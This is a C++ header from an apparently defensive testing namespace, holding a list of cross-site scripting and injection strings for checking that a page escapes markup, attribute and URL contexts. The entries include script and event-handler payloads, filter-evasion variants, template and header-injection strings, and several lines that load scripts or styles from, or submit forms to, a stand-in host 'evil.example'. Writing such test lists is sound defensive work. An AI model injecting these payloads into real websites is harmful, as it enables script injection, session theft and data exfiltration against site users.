// Texts that would become markup, script, attribute or address in a page that forgot one context.
#pragma once
#include <string>
#include <vector>

namespace passerelle::testing {

inline const std::vector<std::string>& hostileStrings() {
  static const std::vector<std::string> kStrings = {
      "<script>alert(1)</script>",
      "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
      "<scr<script>ipt>alert(1)</scr</script>ipt>",
      "<script\n>alert(1)</script\n>",
      "</title><script>alert(1)</script>",
      "</style><script>alert(1)</script>",
      "</textarea><script>alert(1)</script>",
      "</article></main><script>alert(1)</script>",
      "<img src=x onerror=alert(1)>",
      "<img src=`x` onerror=alert(1)>",
      "<IMG SRC=javascript:alert(1)>",
      "<img src=\"x\" onerror=\"alert(1)\">",
      "<img/src/onerror=alert(1)>",
      "<img src=x:x onerror=\nalert(1)>",
      "<svg onload=alert(1)>",
      "<svg/onload=alert(1)//",
      "<svg><script>alert(1)</script></svg>",
      "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
      "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
      "<body onload=alert(1)>",
      "<iframe src=javascript:alert(1)></iframe>",
      "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
      "<object data=javascript:alert(1)></object>",
      "<embed src=javascript:alert(1)>",
      "<link rel=stylesheet href=//evil.example/x.css>",
      "<style>@import '//evil.example/x.css';</style>",
      "<style>*{background:url(//evil.example/x)}</style>",
      "<base href=//evil.example/>",
      "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
      "<form action=//evil.example><input type=submit autofocus onfocus=alert(1)>",
      "<input autofocus onfocus=alert(1)>",
      "<details open ontoggle=alert(1)>",
      "<video><source onerror=alert(1)></video>",
      "<marquee onstart=alert(1)>x</marquee>",
      "<a href=javascript:alert(1)>x</a>",
      "<a href=\"java\tscript:alert(1)\">x</a>",
      "<a href=data:text/html,<script>alert(1)</script>>x</a>",
      "<template><script>alert(1)</script></template>",
      "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
      "<!--<img src=\"--><img src=x onerror=alert(1)>\">",
      "<![CDATA[<script>alert(1)</script>]]>",
      "<?xml version=\"1.0\"?><script>alert(1)</script>",
      "\"><script>alert(1)</script>",
      "'><script>alert(1)</script>",
      "\" onmouseover=\"alert(1)",
      "' onmouseover='alert(1)",
      "\" autofocus onfocus=alert(1) x=\"",
      "x\" style=\"background:url(javascript:alert(1))",
      "javascript:alert(1)",
      "&lt;script&gt;alert(1)&lt;/script&gt;",
      "&#60;script&#62;alert(1)&#60;/script&#62;",
      "&quot; onload=&quot;alert(1)",
      "{{constructor.constructor('alert(1)')()}}",
      "${alert(1)}",
      "\\\"-alert(1)//",
      "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
      "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
      "\xe2\x80\xae<script>alert(1)</script>",
      "\xef\xbc\x9cscript\xef\xbc\x9e"
      "alert(1)",
      "a\r\nSet-Cookie: x=1\r\n\r\n<script>alert(1)</script>",
      "»</blockquote><script>alert(1)</script>",
      "« <b onmouseover=alert(1)>» </b>",
  };
  return kStrings;
}

}  // namespace passerelle::testing
